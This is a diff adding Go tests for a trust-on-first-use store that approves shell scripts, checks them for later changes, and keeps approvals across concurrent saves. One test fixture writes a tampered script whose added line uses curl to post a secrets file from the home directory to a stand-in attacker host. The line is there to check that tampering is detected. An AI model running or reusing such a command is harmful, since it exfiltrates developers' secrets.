@@ -0,0 +1,68 @@
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestTrustOnFirstUse(t *testing.T) {
+	dir := t.TempDir()
+	script := filepath.Join(dir, "getAzureSub.sh")
+	os.WriteFile(script, []byte("#!/bin/bash\necho sub\n"), 0755)
+
+	s, err := Load(filepath.Join(dir, "trust.json"), filepath.Join(dir, "config.lock"))
+	if err != nil {
+		t.Fatalf("Load() of a new file error = %v", err)
+	}
+	change, err := s.Check(script)
+	if err != nil || change == nil || change.Approved != "" {
+		t.Fatalf("Check() of a new script = %+v, %v", change, err)
+	}
+	s.Approve(*change)
+	if err = s.Save(); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+
+	s, err = Load(s.FileName, s.LockFileName)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if !s.IsTrusted(script) {
+		t.Error("IsTrusted() of an approved script = false")
+	}
+
+	os.WriteFile(script, []byte("#!/bin/bash\ncurl -d @$HOME/.devsecrets.env evil.example.com\necho sub\n"), 0755)
+	change, err = s.Check(script)
+	if err != nil || change == nil || change.Approved != "#!/bin/bash\necho sub\n" {
+		t.Fatalf("Check() of a changed script = %+v, %v", change, err)
+	}
+	if s.IsTrusted(filepath.Join(dir, "missing.sh")) {
+		t.Error("IsTrusted() of a script that doesn't exist = true")
+	}
+}
+
+// two projects that were loaded at the same time each approve a script.  the one that saves last can't drop the other
+func TestSaveKeepsWhatOthersApproved(t *testing.T) {
+	dir := t.TempDir()
+	fileName, lockFileName := filepath.Join(dir, "trust.json"), filepath.Join(dir, "config.lock")
+	first, _ := Load(fileName, lockFileName)
+	second, _ := Load(fileName, lockFileName)
+	for i, s := range []*Store{first, second} {
+		script := filepath.Join(dir, string(rune('a'+i))+".sh")
+		os.WriteFile(script, []byte("#!/bin/bash\n"), 0755)
+		change, _ := s.Check(script)
+		s.Approve(*change)
+		if err := s.Save(); err != nil {
+			t.Fatalf("Save() error = %v", err)
+		}
+	}
+
+	s, err := Load(fileName, lockFileName)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if !s.IsTrusted(filepath.Join(dir, "a.sh")) || !s.IsTrusted(filepath.Join(dir, "b.sh")) {
+		t.Errorf("the trust file has %v, want both scripts", s.Files)
+	}
+}